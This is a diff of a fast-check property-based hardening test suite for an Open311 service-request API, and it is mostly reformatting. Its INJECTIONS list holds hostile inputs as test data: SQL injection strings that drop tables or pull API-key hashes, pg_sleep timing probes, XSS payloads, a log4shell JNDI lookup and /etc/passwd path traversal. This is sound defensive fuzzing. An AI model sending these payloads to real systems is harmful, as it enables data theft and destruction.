@@ -10,7 +10,20 @@ import { createApp } from '../../src/app.js';
 import { createLogger } from '../../src/logger.js';
 import { createRequest, LANCASTER } from '../helpers/build.js';
 import { BASE, ctx, testConfig, unique } from '../helpers/test-server.js';
-import { captureUncaught, checkAnswer, checkXml, expectNoUncaught, encodeBytes, encodeRaw, encodeUtf8, listen, rawRequest, sentForms, type Listening, type RawAnswer } from './support.js';
+import {
+  captureUncaught,
+  checkAnswer,
+  checkXml,
+  expectNoUncaught,
+  encodeBytes,
+  encodeRaw,
+  encodeUtf8,
+  listen,
+  rawRequest,
+  sentForms,
+  type Listening,
+  type RawAnswer,
+} from './support.js';
 
 const SEED = 20261124;
 
@@ -21,8 +34,8 @@ const INJECTIONS = [
   "1' OR 1=1 --",
   '1; DROP TABLE service_requests; --',
   "' UNION SELECT key_hash, key_prefix FROM api_keys --",
-  "1) OR pg_sleep(5) IS NULL --",
-  "$$; SELECT pg_sleep(1); $$",
+  '1) OR pg_sleep(5) IS NULL --',
+  '$$; SELECT pg_sleep(1); $$',
   "\\'; INSERT INTO api_keys VALUES (1) --",
   "%' AND 1=CAST((SELECT version()) AS int) --",
   '1::int',
@@ -33,6 +46,7 @@ const INJECTIONS = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   '{"$gt":""}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, meant literally
   '${jndi:ldap://x.example/a}',
   '{{7*7}}',
   '../../../../etc/passwd',
@@ -119,7 +133,9 @@ const PLAUSIBLE = [
   '1cb',
 ];
 
-const hugeString = fc.integer({ min: 1000, max: 3500 }).chain((length) => fc.constantFrom('A', 'é', '%', '<', '\u0001', '道').map((unit) => unit.repeat(length)));
+const hugeString = fc
+  .integer({ min: 1000, max: 3500 })
+  .chain((length) => fc.constantFrom('A', 'é', '%', '<', '\u0001', '道').map((unit) => unit.repeat(length)));
 
 const hostileString: fc.Arbitrary<string> = fc.oneof(
   { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
@@ -157,9 +173,12 @@ const QUERY_KEYS = [
   'status[0]',
 ];
 
-const deepKey = fc.array(fc.oneof(fc.constantFrom('a', 'SIZE', '', '[', ']', '0', '__proto__'), fc.string({ maxLength: 6 })), { minLength: 1, maxLength: 6 }).map(
-  (parts) => `attribute${parts.map((part) => `[${part}]`).join('')}`,
-);
+const deepKey = fc
+  .array(fc.oneof(fc.constantFrom('a', 'SIZE', '', '[', ']', '0', '__proto__'), fc.string({ maxLength: 6 })), {
+    minLength: 1,
+    maxLength: 6,
+  })
+  .map((parts) => `attribute${parts.map((part) => `[${part}]`).join('')}`);
 
 type Encoding = 'utf8' | 'raw' | 'bytes';
 const encoding = fc.constantFrom<Encoding>('utf8', 'utf8', 'raw', 'bytes');
@@ -172,7 +191,11 @@ function encodeWith(mode: Encoding, text: string, bytes: Uint8Array): string {
 /** One `key=value` item of a query string or urlencoded body, encoded one of several ways. */
 const encodedPair = fc
   .record({
-    key: fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...QUERY_KEYS) }, { weight: 1, arbitrary: hostileString }, { weight: 1, arbitrary: deepKey }),
+    key: fc.oneof(
+      { weight: 5, arbitrary: fc.constantFrom(...QUERY_KEYS) },
+      { weight: 1, arbitrary: hostileString },
+      { weight: 1, arbitrary: deepKey },
+    ),
     value: hostileString,
     keyEncoding: fc.constantFrom<Encoding>('utf8', 'utf8', 'raw'),
     valueEncoding: encoding,
@@ -201,7 +224,12 @@ let knownToken = '';
 
 const statuses = new Map<number, number>();
 
-async function call(method: string, path: string, headers: Record<string, string> = {}, body?: string | Buffer): Promise<RawAnswer> {
+async function call(
+  method: string,
+  path: string,
+  headers: Record<string, string> = {},
+  body?: string | Buffer,
+): Promise<RawAnswer> {
   const answer = await rawRequest(server.port, { method, path, headers, ...(body === undefined ? {} : { body }) });
   statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
   await expectNoUncaught(uncaught, `${method} ${path.slice(0, 200)}`);
@@ -209,17 +237,34 @@ async function call(method: string, path: string, headers: Record<string, string
 }
 
 /** A path parameter: a known good value, or hostile text encoded one way or another. */
-const pathParameter = fc.oneof(
-  { weight: 2, arbitrary: fc.constantFrom('POTHOLE', 'SIDEWALK', 'MISSED_TRASH', 'KNOWN_ID', 'KNOWN_TOKEN', '1', '0', '-1', '999999999999999999999', 'A.B') },
-  {
-    weight: 3,
-    arbitrary: fc
-      .tuple(hostileString, encoding, fc.uint8Array({ minLength: 1, maxLength: 8 }))
-      .map(([text, mode, bytes]) => (mode === 'raw' ? encodeRaw(text, '&#= /?') : encodeWith(mode, text, bytes))),
-  },
-).filter((value) => value !== '' && value !== '.' && value !== '..');
+const pathParameter = fc
+  .oneof(
+    {
+      weight: 2,
+      arbitrary: fc.constantFrom(
+        'POTHOLE',
+        'SIDEWALK',
+        'MISSED_TRASH',
+        'KNOWN_ID',
+        'KNOWN_TOKEN',
+        '1',
+        '0',
+        '-1',
+        '999999999999999999999',
+        'A.B',
+      ),
+    },
+    {
+      weight: 3,
+      arbitrary: fc
+        .tuple(hostileString, encoding, fc.uint8Array({ minLength: 1, maxLength: 8 }))
+        .map(([text, mode, bytes]) => (mode === 'raw' ? encodeRaw(text, '&#= /?') : encodeWith(mode, text, bytes))),
+    },
+  )
+  .filter((value) => value !== '' && value !== '.' && value !== '..');
 
-const resolvePathParameter = (value: string): string => (value === 'KNOWN_ID' ? knownRequestId : value === 'KNOWN_TOKEN' ? knownToken : value);
+const resolvePathParameter = (value: string): string =>
+  value === 'KNOWN_ID' ? knownRequestId : value === 'KNOWN_TOKEN' ? knownToken : value;
 
 const getEndpoint = fc.oneof(
   fc.constant('discovery'),
@@ -231,14 +276,20 @@ const getEndpoint = fc.oneof(
   fc.constant('servicerequestupdates'),
 );
 
-const getFormat = fc.oneof({ weight: 12, arbitrary: fc.constantFrom('json', 'xml') }, { weight: 1, arbitrary: fc.constantFrom('geojson', 'csv', 'XML', 'Json', 'html', '') });
+const getFormat = fc.oneof(
+  { weight: 12, arbitrary: fc.constantFrom('json', 'xml') },
+  { weight: 1, arbitrary: fc.constantFrom('geojson', 'csv', 'XML', 'Json', 'html', '') },
+);
 
 const printableHeader = fc.string({ unit: 'binary-ascii', maxLength: 80 }).map((text) => text.replace(/[^\x20-\x7e]/g, ''));
 
 const extraHeaders = fc.record(
   {
     'If-None-Match': fc.oneof(printableHeader, fc.constantFrom('*', 'W/"x"', '"abc", W/"def"')),
-    'If-Modified-Since': fc.oneof(printableHeader, fc.constantFrom('Thu, 01 Jan 1970 00:00:00 GMT', 'Fri, 31 Dec 9999 23:59:59 GMT', 'yesterday')),
+    'If-Modified-Since': fc.oneof(
+      printableHeader,
+      fc.constantFrom('Thu, 01 Jan 1970 00:00:00 GMT', 'Fri, 31 Dec 9999 23:59:59 GMT', 'yesterday'),
+    ),
     'X-Request-Id': printableHeader,
     Accept: fc.constantFrom('*/*', 'text/html', 'application/json', 'text/xml', 'application/xml;q=0.1, */*;q=0'),
     'Accept-Encoding': fc.constantFrom('gzip', 'identity', 'br;q=1, *;q=0'),
@@ -255,15 +306,22 @@ describe('hardening: property-based (fast-check)', function () {
     uncaught = captureUncaught();
     // The suite's store, with a short request timeout: an input that makes the server hang fails in
     // 3 s (503) instead of 30 s, so fast-check can shrink it.
-    server = await listen(createApp({ config: testConfig({ REQUEST_TIMEOUT_MS: '3000' }), db: ctx().db, logger: createLogger('silent') }).app);
+    server = await listen(
+      createApp({ config: testConfig({ REQUEST_TIMEOUT_MS: '3000' }), db: ctx().db, logger: createLogger('silent') }).app,
+    );
     knownRequestId = await createRequest({ description: unique('property-known') });
-    const batch = await call('POST', `${BASE}/requests.json`, { 'Content-Type': 'application/x-www-form-urlencoded' }, new URLSearchParams({
-      api_key: ctx().apiKey,
-      service_code: 'MISSED_TRASH',
-      address_string: '215 N Broad St',
-      'attribute[COLLECTION_TYPE][]': 'TRASH',
-      description: unique('property-token'),
-    }).toString());
+    const batch = await call(
+      'POST',
+      `${BASE}/requests.json`,
+      { 'Content-Type': 'application/x-www-form-urlencoded' },
+      new URLSearchParams({
+        api_key: ctx().apiKey,
+        service_code: 'MISSED_TRASH',
+        address_string: '215 N Broad St',
+        'attribute[COLLECTION_TYPE][]': 'TRASH',
+        description: unique('property-token'),
+      }).toString(),
+    );
     expect(batch.status, batch.text).to.equal(200);
     knownToken = (JSON.parse(batch.text) as Array<{ token: string }>)[0]!.token;
   });
@@ -280,7 +338,10 @@ describe('hardening: property-based (fast-check)', function () {
   const auth = fc.constantFrom<Auth>('body', 'body', 'bearer', 'query', 'none', 'wrong', 'empty');
   const postTarget = fc.record({
     endpoint: fc.constantFrom('requests', 'requests', 'servicerequestupdates'),
-    format: fc.oneof({ weight: 10, arbitrary: fc.constantFrom('json', 'xml') }, { weight: 1, arbitrary: fc.constantFrom('geojson', 'csv', '') }),
+    format: fc.oneof(
+      { weight: 10, arbitrary: fc.constantFrom('json', 'xml') },
+      { weight: 1, arbitrary: fc.constantFrom('geojson', 'csv', '') },
+    ),
     auth,
     validBase: fc.boolean(),
     idempotencyKey: fc.option(fc.oneof(printableHeader, fc.constant('k'.repeat(300))), { freq: 5 }),
@@ -320,7 +381,11 @@ describe('hardening: property-based (fast-check)', function () {
   ];
 
   const bodyPair = fc.tuple(
-    fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...POST_KEYS) }, { weight: 1, arbitrary: hostileString }, { weight: 2, arbitrary: deepKey }),
+    fc.oneof(
+      { weight: 6, arbitrary: fc.constantFrom(...POST_KEYS) },
+      { weight: 1, arbitrary: hostileString },
+      { weight: 2, arbitrary: deepKey },
+    ),
     hostileString,
   );
 
@@ -333,7 +398,10 @@ describe('hardening: property-based (fast-check)', function () {
   }
 
   /** The key, where it goes, and the valid fields a realistic client would send, per target. */
-  function prepare(target: Target, pairs: Array<[string, string]>): { path: string; pairs: Array<[string, string]>; headers: Record<string, string>; secrets: string[] } {
+  function prepare(
+    target: Target,
+    pairs: Array<[string, string]>,
+  ): { path: string; pairs: Array<[string, string]>; headers: Record<string, string>; secrets: string[] } {
     const wrongKey = `o311_${randomBytes(18).toString('base64url')}`;
     const base: Array<[string, string]> = !target.validBase
       ? []
@@ -361,7 +429,13 @@ describe('hardening: property-based (fast-check)', function () {
     return { path, pairs: all, headers, secrets: [wrongKey] };
   }
 
-  async function checkPost(path: string, headers: Record<string, string>, body: string | Buffer, secrets: string[], context: string): Promise<void> {
+  async function checkPost(
+    path: string,
+    headers: Record<string, string>,
+    body: string | Buffer,
+    secrets: string[],
+    context: string,
+  ): Promise<void> {
     const answer = await call('POST', path, headers, body);
     const sent = sentForms(path, body, ...Object.values(headers));
     await checkAnswer(answer, { path, sent, apiKey: ctx().apiKey, context: `${context} POST ${path}` });
@@ -375,7 +449,13 @@ describe('hardening: property-based (fast-check)', function () {
         postTarget,
         fc.array(bodyPair, { maxLength: 10 }),
         fc.array(fc.tuple(encoding, encoding, fc.uint8Array({ maxLength: 6 })), { minLength: 12, maxLength: 12 }),
-        fc.constantFrom('application/x-www-form-urlencoded', 'application/x-www-form-urlencoded; charset=ISO-8859-1', 'text/plain', '', 'application/x-www-form-urlencoded; charset=utf-8'),
+        fc.constantFrom(
+          'application/x-www-form-urlencoded',
+          'application/x-www-form-urlencoded; charset=ISO-8859-1',
+          'text/plain',
+          '',
+          'application/x-www-form-urlencoded; charset=utf-8',
+        ),
         async (target, randomPairs, encodings, contentType) => {
           const { path, pairs, headers, secrets } = prepare(target, randomPairs);
           const body = pairs
@@ -402,7 +482,10 @@ describe('hardening: property-based (fast-check)', function () {
         arbitrary: fc.record({
           kind: fc.constant('file' as const),
           name: fc.constantFrom('media', 'media[]', 'photo1', 'description', 'x"y', ''),
-          filename: fc.oneof(fc.constantFrom('a.jpg', '../../etc/passwd', 'x".png', '', '\u0001.gif'), fc.string({ maxLength: 10 })),
+          filename: fc.oneof(
+            fc.constantFrom('a.jpg', '../../etc/passwd', 'x".png', '', '\u0001.gif'),
+            fc.string({ maxLength: 10 }),
+          ),
           type: fc.constantFrom('image/jpeg', 'image/png', 'application/octet-stream', 'text/html', ''),
           bytes: fc.oneof(
             fc.uint8Array({ maxLength: 64 }),
@@ -419,18 +502,28 @@ describe('hardening: property-based (fast-check)', function () {
         fc.array(part, { maxLength: 8 }),
         fc.constantFrom('ok', 'ok', 'ok', 'no-closing', 'wrong-boundary', 'no-boundary', 'garbage', 'crlf-in-name', 'empty'),
         async (target, parts, framing) => {
-          const fieldPairs = parts.filter((item) => item.kind === 'field').map((item) => [item.name, item.value] as [string, string]);
+          const fieldPairs = parts
+            .filter((item) => item.kind === 'field')
+            .map((item) => [item.name, item.value] as [string, string]);
           const { path, pairs, headers, secrets } = prepare(target, fieldPairs);
           const boundary = `----b0undary${randomBytes(6).toString('hex')}`;
           const chunks: Buffer[] = [];
-          const quote = (text: string): string => (framing === 'crlf-in-name' ? text : text.replace(/[\r\n"]/g, (c) => encodeURIComponent(c)));
+          const quote = (text: string): string =>
+            framing === 'crlf-in-name' ? text : text.replace(/[\r\n"]/g, (c) => encodeURIComponent(c));
           const baseCount = pairs.length - fieldPairs.length;
           for (const [name, value] of pairs.slice(0, baseCount)) {
-            chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${quote(name)}"\r\n\r\n${value}\r\n`, 'utf8'));
+            chunks.push(
+              Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${quote(name)}"\r\n\r\n${value}\r\n`, 'utf8'),
+            );
           }
           for (const item of parts) {
             if (item.kind === 'field') {
-              chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${quote(item.name)}"\r\n\r\n${item.value}\r\n`, 'utf8'));
+              chunks.push(
+                Buffer.from(
+                  `--${boundary}\r\nContent-Disposition: form-data; name="${quote(item.name)}"\r\n\r\n${item.value}\r\n`,
+                  'utf8',
+                ),
+              );
             } else {
               chunks.push(
                 Buffer.from(
@@ -447,7 +540,8 @@ describe('hardening: property-based (fast-check)', function () {
           let contentType = `multipart/form-data; boundary=${boundary}`;
           if (framing === 'wrong-boundary') contentType = 'multipart/form-data; boundary=somethingelse';
           if (framing === 'no-boundary') contentType = 'multipart/form-data';
-          if (framing === 'garbage') body = Buffer.concat([Buffer.from('\u0000\u00ff garbage \r\n--\r\n'), body.subarray(0, Math.floor(body.length / 2))]);
+          if (framing === 'garbage')
+            body = Buffer.concat([Buffer.from('\u0000\u00ff garbage \r\n--\r\n'), body.subarray(0, Math.floor(body.length / 2))]);
           if (framing === 'empty') body = Buffer.alloc(0);
           await checkPost(path, { ...headers, 'Content-Type': contentType }, body, secrets, `multipart/${framing}`);
         },
@@ -472,14 +566,25 @@ describe('hardening: property-based (fast-check)', function () {
       fc.constant({ attributes: [1, 2, 3] }),
       fc.constant({ attribute: null }),
       fc.constant({ 'attribute[a][b][c]': 'x', 'attribute[SIZE]': ['LARGE', 'SMALL'] }),
-      fc.dictionary(fc.oneof(fc.constantFrom('SIZE', 'LANES', 'DEPTH', '__proto__', ''), fc.string({ maxLength: 8 })), wrongType, { maxKeys: 4 }).map((attribute) => ({ attribute })),
-      fc.integer({ min: 1, max: 2000 }).map((depth) => ({ attribute: { DEEP: JSON.parse('['.repeat(depth) + '"x"' + ']'.repeat(depth)) as unknown } })),
+      fc
+        .dictionary(
+          fc.oneof(fc.constantFrom('SIZE', 'LANES', 'DEPTH', '__proto__', ''), fc.string({ maxLength: 8 })),
+          wrongType,
+          { maxKeys: 4 },
+        )
+        .map((attribute) => ({ attribute })),
+      fc
+        .integer({ min: 1, max: 2000 })
+        .map((depth) => ({ attribute: { DEEP: JSON.parse('['.repeat(depth) + '"x"' + ']'.repeat(depth)) as unknown } })),
     );
     const jsonText = fc.oneof(
       {
         weight: 8,
         arbitrary: fc
-          .tuple(fc.array(fc.tuple(fc.oneof(fc.constantFrom(...POST_KEYS), hostileString), wrongType), { maxLength: 8 }), nestedAttributes)
+          .tuple(
+            fc.array(fc.tuple(fc.oneof(fc.constantFrom(...POST_KEYS), hostileString), wrongType), { maxLength: 8 }),
+            nestedAttributes,
+          )
           .map(([entries, nested]) => ({ entries, nested })),
       },
       {
@@ -506,25 +611,31 @@ describe('hardening: property-based (fast-check)', function () {
       },
     );
     await fc.assert(
-      fc.asyncProperty(postTarget, jsonText, fc.constantFrom('application/json', 'application/json; charset=utf-8', 'application/vnd.api+json', 'application/xml'), async (target, json, contentType) => {
-        let body: string;
-        let secrets: string[];
-        let path: string;
-        let headers: Record<string, string>;
-        if (typeof json === 'string') {
-          ({ path, headers, secrets } = prepare(target, []));
-          body = json;
-        } else {
-          const prepared = prepare(target, []);
-          ({ path, headers, secrets } = prepared);
-          const object: Record<string, unknown> = {};
-          for (const [key, value] of prepared.pairs) object[key] = value;
-          for (const [key, value] of json.entries) Object.defineProperty(object, key, { value, enumerable: true, configurable: true, writable: true });
-          Object.assign(object, json.nested);
-          body = JSON.stringify(object);
-        }
-        await checkPost(path, { ...headers, 'Content-Type': contentType }, body, secrets, 'json');
-      }),
+      fc.asyncProperty(
+        postTarget,
+        jsonText,
+        fc.constantFrom('application/json', 'application/json; charset=utf-8', 'application/vnd.api+json', 'application/xml'),
+        async (target, json, contentType) => {
+          let body: string;
+          let secrets: string[];
+          let path: string;
+          let headers: Record<string, string>;
+          if (typeof json === 'string') {
+            ({ path, headers, secrets } = prepare(target, []));
+            body = json;
+          } else {
+            const prepared = prepare(target, []);
+            ({ path, headers, secrets } = prepared);
+            const object: Record<string, unknown> = {};
+            for (const [key, value] of prepared.pairs) object[key] = value;
+            for (const [key, value] of json.entries)
+              Object.defineProperty(object, key, { value, enumerable: true, configurable: true, writable: true });
+            Object.assign(object, json.nested);
+            body = JSON.stringify(object);
+          }
+          await checkPost(path, { ...headers, 'Content-Type': contentType }, body, secrets, 'json');
+        },
+      ),
       { seed: SEED, numRuns: 100 },
     );
   });
@@ -545,7 +656,12 @@ describe('hardening: property-based (fast-check)', function () {
           const path = `${BASE}/${resource}${format === '' ? '' : `.${format}`}${query === '' ? '' : `?${query}`}`;
           fc.pre(path.length < 12_000);
           const answer = await call(method, path, headers);
-          await checkAnswer(answer, { path, sent: sentForms(path, ...Object.values(headers)), apiKey: ctx().apiKey, context: `${method} ${path.slice(0, 300)}` });
+          await checkAnswer(answer, {
+            path,
+            sent: sentForms(path, ...Object.values(headers)),
+            apiKey: ctx().apiKey,
+            context: `${method} ${path.slice(0, 300)}`,
+          });
         },
       ),
       { seed: SEED, numRuns: 150 },
@@ -554,13 +670,17 @@ describe('hardening: property-based (fast-check)', function () {
 
   it('GET requests.geojson and the bulk CSV with hostile query strings → 2xx/304 or a 4xx errors document', async () => {
     await fc.assert(
-      fc.asyncProperty(fc.constantFrom(`${BASE}/requests.geojson`, '/open311/bulk/requests.csv'), queryString, async (base, query) => {
-        const path = `${base}${query === '' ? '' : `?${query}`}`;
-        fc.pre(path.length < 12_000);
-        const answer = await call('GET', path);
-        // The bulk export lives outside the GeoReport base: its errors are XML, the one format every client reads.
-        await checkAnswer(answer, { path, sent: sentForms(path), apiKey: ctx().apiKey, context: `GET ${path.slice(0, 300)}` });
-      }),
+      fc.asyncProperty(
+        fc.constantFrom(`${BASE}/requests.geojson`, '/open311/bulk/requests.csv'),
+        queryString,
+        async (base, query) => {
+          const path = `${base}${query === '' ? '' : `?${query}`}`;
+          fc.pre(path.length < 12_000);
+          const answer = await call('GET', path);
+          // The bulk export lives outside the GeoReport base: its errors are XML, the one format every client reads.
+          await checkAnswer(answer, { path, sent: sentForms(path), apiKey: ctx().apiKey, context: `GET ${path.slice(0, 300)}` });
+        },
+      ),
       { seed: SEED, numRuns: 60 },
     );
   });
@@ -577,7 +697,10 @@ describe('hardening: property-based (fast-check)', function () {
 
   for (const format of ['json', 'xml'] as const) {
     it(`multipart body cut off inside a file part (no closing boundary) → 400 errors document, no uncaught exception (.${format})`, async () => {
-      const { body, contentType } = rawMultipart([keyPart(), 'Content-Disposition: form-data; name="media"; filename="a.gif"\r\nContent-Type: image/gif\r\n\r\nGIF89a'], false);
+      const { body, contentType } = rawMultipart(
+        [keyPart(), 'Content-Disposition: form-data; name="media"; filename="a.gif"\r\nContent-Type: image/gif\r\n\r\nGIF89a'],
+        false,
+      );
       const path = `${BASE}/requests.${format}`;
       const answer = await call('POST', path, { 'Content-Type': contentType }, body);
       expect(answer.status, answer.text).to.equal(400);
@@ -585,8 +708,16 @@ describe('hardening: property-based (fast-check)', function () {
     });
 
     it(`multipart part with an empty or missing name → a prompt 4xx errors document, not a hang or a 5xx (.${format})`, async () => {
-      for (const part of ['Content-Disposition: form-data; name=""\r\n\r\nvalue', 'Content-Disposition: form-data\r\n\r\nvalue', 'Content-Disposition: form-data; name=""; filename="a.gif"\r\nContent-Type: image/gif\r\n\r\nGIF89a']) {
-        const { body, contentType } = rawMultipart([keyPart(), 'Content-Disposition: form-data; name="service_code"\r\n\r\nSIDEWALK', part]);
+      for (const part of [
+        'Content-Disposition: form-data; name=""\r\n\r\nvalue',
+        'Content-Disposition: form-data\r\n\r\nvalue',
+        'Content-Disposition: form-data; name=""; filename="a.gif"\r\nContent-Type: image/gif\r\n\r\nGIF89a',
+      ]) {
+        const { body, contentType } = rawMultipart([
+          keyPart(),
+          'Content-Disposition: form-data; name="service_code"\r\n\r\nSIDEWALK',
+          part,
+        ]);
         const path = `${BASE}/requests.${format}`;
         const started = Date.now();
         const answer = await call('POST', path, { 'Content-Type': contentType }, body);
